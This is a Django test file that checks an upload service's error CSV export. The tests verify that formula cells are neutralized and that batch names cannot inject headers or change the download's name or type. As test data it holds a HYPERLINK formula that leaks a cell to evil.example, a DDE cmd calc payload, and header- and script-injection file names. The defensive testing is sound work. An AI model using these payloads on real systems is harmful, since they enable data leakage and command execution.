"""Issue 13 holes 8 and 9 through the real URLs: errors.csv never hands a spreadsheet a
formula, and a batch's name never changes the downloaded file's name or type."""

import csv
import io
from email.message import Message

import pytest
from django.urls import reverse

from tests.uploads.files import HEADER, csv_bytes, row
from uploads.models import UploadBatch, UploadRowError

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def _errors_csv(client, batch_id: int) -> tuple[object, list[list[str]]]:
    response = client.get(reverse("api:uploads:batch-errors-csv", kwargs={"pk": batch_id}))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return response, list(csv.reader(io.StringIO(text)))


def _parsed(disposition: str) -> tuple[list[str], str | None]:
    """The header's parameter names and the file name, as a mail/HTTP parser reads them."""
    message = Message()
    message["Content-Disposition"] = disposition
    names = [name for name, _ in message.get_params(header="content-disposition")]
    return names, message.get_filename()


def test_errors_csv_neutralizes_formula_cells(post_upload, uploader_client, agents):
    bad = row(
        2,
        customer_first_name=HYPERLINK,
        customer_last_name="@SUM(1+1)*cmd|' /C calc'!A0",
        customer_email="+bad",
        premium_amount="-5",
    )
    response = post_upload(csv_bytes([row(1), bad]))
    assert response.status_code == 201, response.content

    _, lines = _errors_csv(uploader_client, response.json()["data"]["batch_id"])

    cells = dict(zip([*HEADER, "error"], lines[1], strict=True))
    assert cells["customer_first_name"] == "'" + HYPERLINK
    assert cells["customer_last_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert cells["customer_email"] == "'+bad"
    assert cells["premium_amount"] == "'-5"
    assert cells["customer_phone"] == "'+91 98765 43210"
    assert cells["policy_number"] == "POL-000002"  # ordinary text is untouched
    for cell in lines[1]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_errors_csv_neutralizes_the_uploaded_header_and_tab_or_cr_cells(uploader_client, uploader):
    batch = UploadBatch.objects.create(
        file_name="b.csv",
        uploaded_by=uploader,
        status="completed",
        file_meta={"header": ["policy_number", "=1+2", "note"]},
    )
    UploadRowError.objects.create(
        batch=batch,
        row=1,
        values=["P-1", "\t=cmd", "\r=cmd"],
        problems=[{"column": "policy_number", "value": "P-1", "error": "x"}],
    )

    _, lines = _errors_csv(uploader_client, batch.pk)

    assert lines[0] == ["policy_number", "'=1+2", "note", "error"]
    assert lines[1][:3] == ["P-1", "'\t=cmd", "'\r=cmd"]


def test_fixed_errors_csv_round_trips_neutralized_cells(post_upload, uploader_client, agents):
    from renewals.models import Customer

    response = post_upload(csv_bytes([row(1, premium_amount="-5")]))
    _, lines = _errors_csv(uploader_client, response.json()["data"]["batch_id"])
    cells = dict(zip([*HEADER, "error"], lines[1], strict=True))
    cells["premium_amount"] = "500"
    fixed = [{key: value for key, value in cells.items() if key != "error"}]

    again = post_upload(csv_bytes(fixed))

    assert again.json()["data"]["total_records"] == 1
    customer = Customer.objects.get()
    assert customer.phone == "+919876543210"  # "'+91 98765 43210" was read back as sent


@pytest.mark.parametrize(
    "file_name",
    [
        'evil.html"; filename="evil.html',
        "report\r\nContent-Type: text/html\r\nX-Injected: 1\r\n.csv",
        'x"\r\n\r\n<script>alert(1)</script>.csv',
        "..\\..\\evil.exe\u202ecsv.csv",
    ],
)
def test_batch_name_cannot_change_the_downloaded_name_or_type(uploader_client, uploader, file_name):
    batch = UploadBatch.objects.create(file_name=file_name, uploaded_by=uploader)

    response, _ = _errors_csv(uploader_client, batch.pk)

    disposition = response["Content-Disposition"]
    assert "\r" not in disposition
    assert "\n" not in disposition
    params, name = _parsed(disposition)
    assert params[0] == "attachment"
    assert len(params) == 2  # attachment and one filename (or filename*), nothing added
    assert name.endswith("-errors.csv")
    assert not any(ch in name for ch in '"\\/\r\n\u202e')
    assert response["Content-Type"].startswith("text/csv")
    assert "X-Injected" not in response


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_template_download_name(uploader_client, fmt):
    response = uploader_client.get(reverse("api:uploads:template"), {"format": fmt})

    assert response["Content-Disposition"] == (
        f'attachment; filename="renewal_upload_template.{fmt}"'
    )
